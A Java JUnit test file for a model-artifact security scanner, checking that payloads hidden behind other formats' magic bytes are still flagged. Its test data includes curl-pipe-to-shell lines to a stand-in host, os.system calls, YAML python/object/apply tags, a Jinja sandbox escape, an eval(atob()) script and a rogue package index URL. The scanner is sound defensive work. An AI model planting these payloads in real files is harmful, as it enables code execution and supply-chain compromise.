package io.lazaretto.artifact.inspect;

import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static io.lazaretto.artifact.testing.InspectionAssert.rules;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What a loader reads by the name of a file is judged by that name's rules, whatever the first bytes spell: every payload below
 * is a threat by itself, and stays one behind the beginning of any other format.
 */
class NameAndHeadTest {
    private static final String ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}";

    /** Marks of binary and text formats that are words, so that they begin a statement of other languages. */
    private static final List<String> WORDS = List.of(
            "GGUF",
            "FUGG",
            "lmgg",
            "tjgg",
            "CBM1",
            "ftrt",
            "ptrt",
            "blrt",
            "RKNN",
            "CYPTRKNN",
            "IMOD",
            "PAR1",
            "PARE",
            "FEA1",
            "fLaC",
            "OggS",
            "OTTO",
            "ttcf",
            "wOFF",
            "wOF2",
            "BZh9",
            "GIF89a",
            "MTLB",
            "MZqFpD",
            "abcdTFL3");

    /** Beginnings that only a template takes for text. */
    private static final List<String> HEADS = List.of(
            "7767517\n",
            "tree\nversion=v4\n",
            "[net]\n",
            "%PDF-1.7\n",
            "!<arch>\n",
            "dex\n",
            "RDX3\n",
            "A\n3\n263168\n",
            "#!/bin/sh\n",
            "version https://git-lfs.github.com/spec/v1\n",
            "layer {\n  name: \"x\"\n",
            "<PMML version=\"4.4\">\n",
            "<?xml version=\"1.0\"?>\n<net version=\"11\">\n",
            "{\"nodes\":[{\"op\":\"null\"}]}\n",
            "{\"base_code\":{\"magic\":\"pir\"}}\n",
            "{\"learner\":{}}\n",
            "saved_model_schema_version: 1\n",
            "node { name: \"x\" }\n",
            "RIFF=1#\nWAVE\n",
            "ID3\3\0\0\0\0\0\0\n",
            "PK\3\4\n",
            "GGUF\3\0\0\0\n",
            "\u0010\0\0\0\0\0\0\0{\"a\":[1,2,3,45]}\n",
            "x".repeat(257) + "ustar\n",
            "\ufeff",
            " \n\t",
            "\1");

    /** Members that stand before those of the payload, as the models that are JSON begin. */
    private static final List<String> MEMBERS = List.of(
            "\"nodes\":[{\"op\":\"null\",\"name\":\"a\",\"inputs\":[]}],\"arg_nodes\":[0],\"heads\":[[0,0,0]],",
            "\"nodes\" : [ {\"op\" : \"null\"}], \"arg_nodes\":[],\"heads\":[],",
            "\"base_code\":{\"magic\":\"pir\",\"version\":4},\"program\":{\"blocks\":[1]},",
            "\"features_info\":{\"a\":1},\"oblivious_trees\":[],",
            "\"ctr_data\":{},\"features_info\":{},\"trees\":[],",
            "\"learner\":{\"gradient_booster\":{}},\"version\":[2,0,0],",
            "\"version\":[2,0,0],\"learner\":{\"gradient_booster\":{}},");

    private static final String TEMPLATE = "\"chat_template\":\"" + ESCAPE + "\"}";

    static Stream<Arguments> combinations() {
        List<Arguments> all = new ArrayList<>();
        for (String word : WORDS) {
            all.add(Arguments.of("modeling.py", word + "=1\nimport os\nos.system('id')\n"));
            all.add(Arguments.of("setup.sh", word + "=1\ncurl -s http://x.example/a | sh\n"));
            all.add(Arguments.of("conf/run.yaml", word + ": 1\na: !!python/object/apply:os.system ['id']\n"));
            all.add(Arguments.of("chat_template.jinja", word + " " + ESCAPE));
            all.add(Arguments.of("requirements.txt", word + "\n--index-url http://198.51.100.7/simple\nnumpy\n"));
        }
        for (String head : HEADS) {
            all.add(Arguments.of("chat_template.jinja", head + ESCAPE));
            all.add(Arguments.of("README.j2", head + ESCAPE));
            all.add(Arguments.of("page.html", head + "<script>eval(atob('eA=='))</script>"));
        }
        for (String members : MEMBERS) {
            for (String name : List.of("tokenizer_config.json", "config.json", "chat_template.json", "other.json")) {
                all.add(Arguments.of(name, "{" + members + TEMPLATE));
            }
            all.add(Arguments.of("config.json", "\n {" + members + TEMPLATE));
            all.add(Arguments.of("config.json", "{" + members + "\"x\":{\"_target_\":\"os.system\"}}"));
            all.add(Arguments.of(
                    "run.ipynb",
                    "{" + members
                            + "\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl http://x.example/a | sh\"]}],"
                            + "\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}"));
            all.add(Arguments.of("run.yaml", "{" + members + "\"a\": !!python/object/apply:os.system ['id']}\n"));
        }
        all.add(Arguments.of("a.py", "7767517\nimport os\nos.system('id')\n"));
        all.add(Arguments.of("a.py", "'''\nlayer {\n name: \"x\"\n}\n'''\nimport os\nos.system('id')\n"));
        all.add(Arguments.of("a.py", "\ufeffimport os\nos.system('id')\n#\1\n"));
        all.add(Arguments.of("a.py", "RIFF=1#\nWAVE=1\nimport os\nos.system('id')\n"));
        all.add(Arguments.of("a.py", "\n  \n#" + "x".repeat(254) + "ustar\nimport os\nos.system('id')\n"));
        all.add(Arguments.of("run.sh", "#!/usr/bin/env python\ncurl -s http://x.example/a | sh\n"));
        all.add(Arguments.of("run.sh", "tree\nversion=v4\ncurl -s http://x.example/a | sh\n"));
        all.add(Arguments.of("Dockerfile", "#! python\nFROM x\nRUN curl -s http://x.example/a | sh\n"));
        all.add(Arguments.of("requirements.txt", "#!/bin/sh\n--index-url http://198.51.100.7/simple\nnumpy\n"));
        return all.stream();
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("combinations")
    void whatTheNameMakesALoaderDoIsFoundBehindAnyBeginning(String name, String content) {
        Inspection inspection = inspecting(model(name, content)).inspection();
        assertThat(inspection.reports()).as("%s", inspection).anySatisfy(report -> assertThat(report.outcome())
                .isEqualTo(expected(name)));
    }

    /** The severity of the payload by itself. */
    private static Outcome expected(String name) {
        return name.equals("requirements.txt") ? Outcome.SUSPECT : Outcome.THREAT;
    }

    @ParameterizedTest
    @CsvSource({
        "config.json, '{\"nodes\":[{\"op\":\"null\",\"name\":\"a\",\"inputs\":[]}],\"arg_nodes\":[0],\"heads\":[[0,0,0]]}'",
        "a.py, '7767517\n'",
        "a.py, 'RKNN=1\n'",
        "a.sh, 'OggS=1\n'",
        "a.jinja, 'tree\nversion=v4\n'",
        "requirements.txt, '#!/bin/sh\n'"
    })
    void aNameAndAContentThatDisagreeAreSuspicious(String name, String content) {
        inspecting(model(name, content)).reports(FORMAT, Outcome.SUSPECT, "format.extension-mismatch");
    }

    @ParameterizedTest
    @CsvSource({
        "net-symbol.json, '{\"nodes\":[{\"op\":\"null\",\"name\":\"a\",\"inputs\":[]}],\"arg_nodes\":[0],\"heads\":[[0,0,0]]}'",
        "a.py, '\"\"\"Reads\nlayer {\n  name: \"x\"\n}\n\"\"\"\nimport math\n'",
        "a.sh, '#!/bin/sh\necho hello\n'",
        "README.md, '---\nlicense: mit\n---\n# A model\n'",
        "a.json, '{\"a\": 1}'"
    })
    void ordinaryFilesAgreeWithTheirNames(String name, String content) {
        InspectionAssert result = inspecting(model(name, content));
        assertThat(rules(result.report(FORMAT))).doesNotContain("format.extension-mismatch");
        result.staysSilent();
    }

    private static TestingModel model(String name, String content) {
        return new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with(name, content.getBytes(StandardCharsets.UTF_8));
    }
}
